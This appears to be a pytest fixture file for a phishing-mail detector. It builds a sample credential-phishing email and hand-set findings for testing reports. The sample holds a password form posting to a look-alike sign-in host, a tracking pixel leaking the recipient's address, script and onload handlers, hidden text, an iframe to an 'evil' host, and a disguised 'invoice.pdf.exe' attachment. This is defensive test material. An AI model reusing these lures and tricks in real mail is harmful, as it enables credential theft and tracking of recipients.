"""A hostile mail, parsed, with findings set by hand: what every report is tried on."""

import pytest

from unhook import message
from unhook.catalogue import Catalogue
from unhook.message.model import Message
from unhook.report import Judged
from unhook.rules.finding import Evidence, Finding, Findings, NotEvaluated, Severity
from unhook.verdict import decide

MAIL = b"""\
Return-Path: <bounce@bulk.example>
Received: from relay.bulk.example (relay.bulk.example [192.0.2.44])
\tby mx.corp.example with ESMTPS id abc1; Mon, 2 Mar 2026 09:00:05 +0000
Authentication-Results: mx.corp.example; spf=fail smtp.mailfrom=bounce@bulk.example;
\tdkim=none; dmarc=fail header.from=provider.example
From: "Mail Service <x>" <service@provider.example>
To: jo@corp.example
Reply-To: desk@elsewhere.test
Subject: =?utf-8?q?Update_=E2=80=AEon_the_network_=1B=5B31m?=
Message-ID: <m1@bulk.example>
Date: Mon, 2 Mar 2026 09:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><head><title>x</title><style>.q{color:red}</style><script>alert(1)</script></head>
<body bgcolor="#ffffff" onload="steal()">
<div style="display:none">Hidden preview words</div>
<h1 style="color:#1a4f8b">System update</h1>
<p>Dear user, your mailbox will be <b>removed within 24</b> hours &amp; all mail is lost.</p>
<img src="http://tracker.bulk.example/p.gif?jo@corp.example" alt="Logo">
<table width="100%"><tr><td style="padding:12px;background:url(http://tracker.bulk.example/x)">
<a href="https://sign-in.elsewhere.test/?u=jo@corp.example"
 style="background-color:#0a5;color:#fff;padding:10px 20px" onclick="evil()"
>CONFIRM IN USE &ndash; SIGN IN HERE</a></td></tr></table>
<form action="https://sign-in.elsewhere.test/post"><input type="password" name="p">
<input type="submit" value="Go"></form>
<p style="position:fixed;top:0">See http://help.elsewhere.test/now</p>
<iframe src="https://evil.elsewhere.test/"></iframe><svg onload="evil()"><a>svg text</a></svg>
</body></html>
--b
Content-Type: application/octet-stream; name="invoice.pdf.exe"
Content-Disposition: attachment; filename="invoice.pdf.exe"
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA
--b--
"""


def text_evidence(parsed: Message, phrase: str) -> Evidence:
    """Evidence for a phrase in the current thread, placed as the rules place it."""
    thread = parsed.body.current_thread
    start = thread.text.index(phrase)
    assert parsed.body.text_map is not None
    base = thread.text_span[0] + start
    raw = parsed.body.text_map.raw(base, base + len(phrase))
    return Evidence("body.current_thread.text", phrase, (start, start + len(phrase)), raw)


def finding(
    rule: str, severity: Severity, weight: float, group: str, *evidence: Evidence, **wording: str
) -> Finding:
    """A finding of a credential phish, worded in the languages given."""
    return Finding(
        rule=rule,
        name=rule.replace("-", " ").capitalize(),
        severity=severity,
        sentence=rule,
        evidence=evidence,
        attack_types=("credential_phishing",) if weight > 0 else (),
        techniques=("T1566.002",),
        weight=weight,
        group=group,
        sentences=wording,
    )


@pytest.fixture(scope="session")
def judged() -> Judged:
    parsed = message.parse(MAIL)
    sender = parsed.sender.display_name or ""
    target = parsed.body.links[0].href_url
    assert target is not None
    found = (
        finding(
            "mailbox-removal",
            "high",
            2.5,
            "text",
            text_evidence(parsed, "removed within 24 hours & all mail"),
            text_evidence(parsed, "Dear user"),
            en="The mail threatens to remove the mailbox: {snippet}.",
            de="Die Mail droht, das Postfach zu entfernen: {snippet}.",
        ),
        finding(
            "link-leaves-sender",
            "critical",
            3.5,
            "links",
            Evidence(
                "body.links[0].href_url.url", target.url, (0, len(target.url)), parsed.body.links[0].span
            ),
            en="The button leads to {snippet}, which has nothing to do with the sender.",
            de="Der Knopf führt zu {snippet}; das hat mit dem Absender nichts zu tun.",
        ),
        finding(
            "reply-elsewhere",
            "medium",
            0.7,
            "sender",
            Evidence("headers.reply_to[0].email.email", "desk@elsewhere.test"),
            en="Answers go to {snippet}, not to the sender.",
        ),
        finding("odd-sender-name", "low", 0.4, "sender", Evidence("sender.display_name", sender)),
        finding(
            "double-extension",
            "high",
            1.5,
            "attachments",
            Evidence("attachments[0].file_name", "invoice.pdf.exe"),
            en="The file {snippet} hides that it is a program.",
        ),
        finding("list-mail", "informational", -0.5, "honesty", en="It comes from a mailing list."),
    )
    findings = Findings(found, (NotEvaluated("young-domain", ("whois",)),))
    return Judged("inbox/scam #1.eml", parsed, decide(parsed, findings), ms=4.25)


@pytest.fixture(scope="session")
def english() -> Catalogue:
    return Catalogue.load("en")
